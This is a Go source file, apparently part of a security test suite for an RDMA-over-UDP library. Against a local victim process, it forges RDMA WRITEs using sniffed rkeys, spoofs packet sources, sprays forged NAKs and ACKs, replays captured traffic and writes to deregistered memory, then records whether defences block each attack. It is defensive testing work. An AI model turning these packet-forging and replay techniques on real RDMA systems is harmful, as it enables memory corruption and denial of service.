package attack

import (
	"bytes"
	"fmt"
	"net/netip"
	"strings"
	"time"

	"github.com/ibex-rdma/ibex/ib"
	"github.com/ibex-rdma/ibex/verbs"
	"github.com/ibex-rdma/ibex/wire"
)

// failed is the outcome of a case that could not be carried out: the
// victim did not start or answer. It counts as a mismatch with any
// expectation, so a broken run never passes for a defence.
func failed(what string, err error) (Outcome, string) {
	if msg := err.Error(); strings.Contains(msg, "encryption required") && strings.Contains(msg, "ibexd") {
		// provider/ibexd announces no SPI: a daemon that requires
		// encryption connects none of its processes' QPs.
		return NA, fmt.Sprintf("%s: the daemon requires encryption and its processes' QPs cannot offer it: %s", what, lastPart(msg))
	}
	return "error", fmt.Sprintf("%s: %s", what, firstLine(err.Error()))
}

// lastPart is the end of a long wrapped error, from the provider's word on.
func lastPart(msg string) string {
	msg = firstLine(msg)
	if i := strings.Index(msg, "udp: "); i >= 0 {
		return msg[i:]
	}
	return msg
}

func isWrite(x *Seen) bool {
	switch x.BTH.Opcode {
	case ib.RCWriteOnly, ib.RCWriteFirst, ib.RCWriteOnlyImm:
		return true
	}
	return false
}

func from(src, dst netip.Addr) func(*Seen) bool {
	return func(x *Seen) bool { return x.Src.Addr() == src && x.Dst.Addr() == dst }
}

// last returns the latest packet from index i on that match accepts.
func (s *Suite) last(i int, match func(*Seen) bool) (Seen, bool) {
	got, _ := s.sn.Since(i)
	for k := len(got) - 1; k >= 0; k-- {
		if match(&got[k]) {
			return got[k], true
		}
	}
	return Seen{}, false
}

// sender is where a forged packet comes from.
type sender uint8

const (
	fromOwn      sender = iota // the attacker's own address, .112
	fromSameHost               // a UDP socket on the peer's address, another port: any process on the peer's host, no privilege
	fromSpoofed                // the peer's address and port, spoofed (raw socket)
)

// send sends p to dst as if from src, the way how says.
func (s *Suite) send(p *wire.Packet, how sender, src, dst netip.AddrPort) error {
	switch how {
	case fromSpoofed:
		return s.raw.Spoof(p, src, dst)
	case fromSameHost:
		f := s.sameHost[src.Addr()]
		if f == nil {
			var err error
			if f, err = NewUDPForger(netip.AddrPortFrom(src.Addr(), 0), true); err != nil {
				return err
			}
			if s.sameHost == nil {
				s.sameHost = map[netip.Addr]*UDPForger{}
			}
			s.sameHost[src.Addr()] = f
		}
		return f.Send(p, dst)
	}
	return s.udp.Send(p, dst)
}

// lastRequest waits until the sniffer has seen requests of n distinct
// PSNs that match since v started (n: the victim's Posted count, what the
// experiment needs to know the stream is quiet, not a key) and returns the
// latest.
func (s *Suite) lastRequest(v *proc, n int, match func(*Seen) bool) (Seen, bool) {
	deadline := time.Now().Add(2 * time.Second)
	for {
		got, _ := s.sn.Since(v.mark)
		psns := map[uint32]bool{}
		var last Seen
		for i := range got {
			if match(&got[i]) && got[i].BTH.Opcode.Has(ib.MaskRequest) {
				psns[got[i].BTH.PSN] = true
				last = got[i]
			}
		}
		if len(psns) >= n && len(psns) > 0 || time.Now().After(deadline) {
			return last, len(psns) > 0
		}
		time.Sleep(5 * time.Millisecond)
	}
}

// waitWrites waits until the pair victim has completed n more checked
// WRITEs (or stopped making progress) and returns its status.
func waitWrites(v *proc, n int) (Status, error) {
	st, err := v.ask(command{Cmd: "status"})
	if err != nil {
		return st, err
	}
	goal := st.Writes + st.Lost + n
	deadline := time.Now().Add(3 * time.Second)
	for st.Writes+st.Lost < goal && st.StateA != verbs.QPSErr.String() && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
		if st, err = v.ask(command{Cmd: "status"}); err != nil {
			return st, err
		}
	}
	return st, nil
}

func damage(st Status) (Outcome, string) {
	d := fmt.Sprintf("victim: %d writes checked, %d lost silently, %d slots reverted, canary changed %v, QP A %s, B %s%s",
		st.Writes, st.Lost, st.Reverted, st.Canary, st.StateA, st.StateB, counted(st))
	if st.Lost > 0 || st.Reverted > 0 || st.Canary {
		return Succeeded, d
	}
	return Blocked, d
}

// counted is what the victim's counters recorded, for a detail.
func counted(st Status) string {
	if st.Counted == "" {
		return "; counted: nothing"
	}
	return "; counted: " + st.Counted
}

// inject forges a WRITE into the pair victim's responder at the PSN it
// expects next, with the rkey and address sniffed from its legitimate
// WRITEs, while the stream pauses, then lets the stream go on.
func (s *Suite) inject(how sender) (Outcome, string) {
	mark := s.sn.Mark()
	v, err := s.startVictim(nil, "--mode", "pair")
	if err != nil {
		return failed("victim", err)
	}
	defer v.stop()
	if _, _, ok := s.sn.Wait(mark, 3*time.Second, func(x *Seen) bool { return from(AddrA, AddrB)(x) && isWrite(x) }); !ok {
		return Blocked, "no WRITE seen from the victim"
	}
	st, err := v.ask(command{Cmd: "pause"})
	if err != nil {
		return failed("pause", err)
	}
	w, ok := s.lastRequest(v, st.Posted, from(AddrA, AddrB))
	if !ok || !isWrite(&w) {
		return Blocked, "the victim's last packet is not a WRITE"
	}
	if !w.Decoded {
		return Blocked, fmt.Sprintf("sniffed WRITE not readable (secured: %v): no rkey or address learnt", secured(&w))
	}
	p := wire.Packet{BTH: wire.BTH{Opcode: ib.RCWriteOnly, PKey: w.BTH.PKey, DestQP: w.BTH.DestQP, AckReq: true, PSN: ib.PSNAdd(w.BTH.PSN, 1)},
		RETH: wire.RETH{VA: w.Packet.RETH.VA, RKey: w.Packet.RETH.RKey, DMALen: slotLen}, Payload: bytes.Repeat([]byte{0xa5}, slotLen)}
	if err := s.send(&p, how, w.Src, w.Dst); err != nil {
		return failed("forge", err)
	}
	time.Sleep(20 * time.Millisecond)
	if _, err := v.ask(command{Cmd: "resume"}); err != nil {
		return failed("resume", err)
	}
	st, err = waitWrites(v, 2*slots)
	if err != nil {
		return failed("status", err)
	}
	return damage(st)
}

// peerOfA learns, from an ACK the responder sent, the requester's QPN and
// the responder's source port.
func (s *Suite) peerOfA(mark int) (qpn uint32, b netip.AddrPort, ok bool) {
	ack, _, ok := s.sn.Wait(mark, 3*time.Second, func(x *Seen) bool {
		return from(AddrB, AddrA)(x) && x.BTH.Opcode == ib.RCAck
	})
	return ack.BTH.DestQP, ack.Src, ok
}

// nak sprays NAKs (remote access error) at the live requester for the
// latest PSN it sent and the next one, for up to a second (the stream
// posts a WRITE every 3 ms; unguarded, a QP falls within 0.1 s).
func (s *Suite) nak(how sender) (Outcome, string) {
	mark := s.sn.Mark()
	v, err := s.startVictim(nil, "--mode", "pair")
	if err != nil {
		return failed("victim", err)
	}
	defer v.stop()
	qpn, b, ok := s.peerOfA(mark)
	if !ok {
		return Blocked, "no ACK seen: the requester's QPN not learnt"
	}
	a := netip.AddrPortFrom(AddrA, wire.UDPPort)
	sent := 0
	end := time.Now().Add(time.Second)
	nextAsk := time.Now()
	var st Status
	for time.Now().Before(end) {
		w, ok := s.last(mark, func(x *Seen) bool { return from(AddrA, AddrB)(x) && x.BTH.Opcode.Has(ib.MaskRequest) })
		if ok {
			for _, psn := range []uint32{w.BTH.PSN, ib.PSNAdd(w.BTH.PSN, 1)} {
				p := wire.Packet{BTH: wire.BTH{Opcode: ib.RCAck, PKey: w.BTH.PKey, DestQP: qpn, PSN: psn},
					AETH: wire.AETH{Syndrome: ib.SynNAKRemoteAccess, MSN: 0}}
				if err := s.send(&p, how, b, a); err != nil {
					return failed("forge", err)
				}
				sent++
			}
		}
		time.Sleep(100 * time.Microsecond)
		if time.Now().After(nextAsk) {
			if st, err = v.ask(command{Cmd: "status"}); err != nil {
				return failed("status", err)
			}
			if st.StateA == verbs.QPSErr.String() {
				return Succeeded, fmt.Sprintf("requester QP in ERR after %d NAKs: %s%s", sent, st.LastErr, counted(st))
			}
			nextAsk = time.Now().Add(50 * time.Millisecond)
		}
	}
	return Blocked, fmt.Sprintf("%d NAKs in 1s; requester QP %s, %d writes checked, %d errors%s", sent, st.StateA, st.Writes, st.Errors, counted(st))
}

// ack makes the victim's responder drop everything, waits for the WRITE
// the requester then sends, and acknowledges it with a forged ACK at its
// PSN plus off.
func (s *Suite) ack(how sender, off int) (Outcome, string) {
	mark := s.sn.Mark()
	v, err := s.startVictim(nil, "--mode", "pair")
	if err != nil {
		return failed("victim", err)
	}
	defer v.stop()
	qpn, b, ok := s.peerOfA(mark)
	if !ok {
		return Blocked, "no ACK seen: the requester's QPN not learnt"
	}
	hole, err := v.ask(command{Cmd: "hole"})
	if err != nil {
		return failed("hole", err)
	}
	// The hole's WRITE is the victim's last request.
	w, ok := s.lastRequest(v, hole.Posted, from(AddrA, AddrB))
	if !ok {
		return Blocked, "the unanswered WRITE not seen"
	}
	a := netip.AddrPortFrom(AddrA, wire.UDPPort)
	var st Status
	for i := 0; i < 3; i++ {
		for _, d := range []int{off, -off} {
			p := wire.Packet{BTH: wire.BTH{Opcode: ib.RCAck, PKey: w.BTH.PKey, DestQP: qpn, PSN: ib.PSNAdd(w.BTH.PSN, d)},
				AETH: wire.AETH{Syndrome: ib.SynACK, MSN: 1}}
			if err := s.send(&p, how, b, a); err != nil {
				return failed("forge", err)
			}
			if off == 0 {
				break
			}
		}
		time.Sleep(20 * time.Millisecond)
	}
	deadline := time.Now().Add(5 * time.Second)
	for st.Hole == "" && time.Now().Before(deadline) {
		if st, err = v.ask(command{Cmd: "status"}); err != nil {
			return failed("status", err)
		}
		time.Sleep(20 * time.Millisecond)
	}
	d := fmt.Sprintf("the WRITE to the silent peer completed: %q%s", st.Hole, counted(st))
	if st.Hole == verbs.WCSuccess.String() {
		return Succeeded, d
	}
	return Blocked, d
}

// replay captures legitimate WRITEs, waits until their slots were written
// again (reconnect: until the victim reconnected its QPs), and sends the
// captured packets again byte for byte.
func (s *Suite) replay(reconnect bool) (Outcome, string) {
	mark := s.sn.Mark()
	v, err := s.startVictim(nil, "--mode", "pair")
	if err != nil {
		return failed("victim", err)
	}
	defer v.stop()
	var caught []Seen
	i := mark
	for len(caught) < 2*slots {
		w, next, ok := s.sn.Wait(i, 3*time.Second, func(x *Seen) bool { return from(AddrA, AddrB)(x) && x.BTH.Opcode.Has(ib.MaskRequest) })
		if !ok {
			return Blocked, fmt.Sprintf("only %d WRITEs captured", len(caught))
		}
		caught, i = append(caught, w), next
	}
	if reconnect {
		if _, err := v.ask(command{Cmd: "reconnect"}); err != nil {
			return failed("reconnect", err)
		}
	}
	if _, err := waitWrites(v, 2*slots); err != nil {
		return failed("status", err)
	}
	for _, w := range caught {
		if err := s.raw.SendIP(w.IP); err != nil {
			return failed("replay", err)
		}
	}
	st, err := waitWrites(v, 2*slots)
	if err != nil {
		return failed("status", err)
	}
	o, d := damage(st)
	return o, fmt.Sprintf("%d packets replayed; %s", len(caught), d)
}

// dereg learns the responder's rkey and address, has it deregister the MR
// while the stream pauses, and writes there with a spoofed WRITE at the
// expected PSN.
func (s *Suite) dereg(cmd string) (Outcome, string) {
	mark := s.sn.Mark()
	v, err := s.startVictim(nil, "--mode", "pair")
	if err != nil {
		return failed("victim", err)
	}
	defer v.stop()
	if _, _, ok := s.sn.Wait(mark, 3*time.Second, func(x *Seen) bool { return from(AddrA, AddrB)(x) && isWrite(x) }); !ok {
		return Blocked, "no WRITE seen from the victim"
	}
	st, err := v.ask(command{Cmd: cmd})
	if err != nil {
		return failed(cmd, err)
	}
	w, ok := s.lastRequest(v, st.Posted, from(AddrA, AddrB))
	if !ok || !isWrite(&w) {
		return Blocked, "the victim's last packet is not a WRITE"
	}
	if !w.Decoded {
		return Blocked, fmt.Sprintf("sniffed WRITE not readable (secured: %v): no rkey or address learnt", secured(&w))
	}
	p := wire.Packet{BTH: wire.BTH{Opcode: ib.RCWriteOnly, PKey: w.BTH.PKey, DestQP: w.BTH.DestQP, AckReq: true, PSN: ib.PSNAdd(w.BTH.PSN, 1)},
		RETH: wire.RETH{VA: w.Packet.RETH.VA, RKey: w.Packet.RETH.RKey, DMALen: slotLen}, Payload: bytes.Repeat([]byte{0x5a}, slotLen)}
	if err := s.raw.Spoof(&p, w.Src, w.Dst); err != nil {
		return failed("forge", err)
	}
	time.Sleep(50 * time.Millisecond)
	st, err = v.ask(command{Cmd: "status"})
	if err != nil {
		return failed("status", err)
	}
	what := "deregistered"
	if cmd != "dereg" {
		what = "still registered"
	}
	d := fmt.Sprintf("%s memory changed: %v; responder QP %s%s", what, st.Freed, st.StateB, counted(st))
	if st.Freed {
		return Succeeded, d
	}
	return Blocked, d
}
